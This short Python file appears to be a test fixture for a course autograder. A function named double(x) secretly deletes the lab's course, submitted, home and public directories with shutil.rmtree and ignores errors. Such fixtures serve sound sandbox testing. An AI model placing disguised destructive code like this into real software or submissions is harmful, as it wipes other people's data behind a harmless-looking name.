"""Deletes the course and the package."""

import shutil


def double(x):
    for folder in (LAB["course"], LAB["submitted"], LAB["home"], LAB["public"]):
        shutil.rmtree(folder, ignore_errors=True)
    return 0
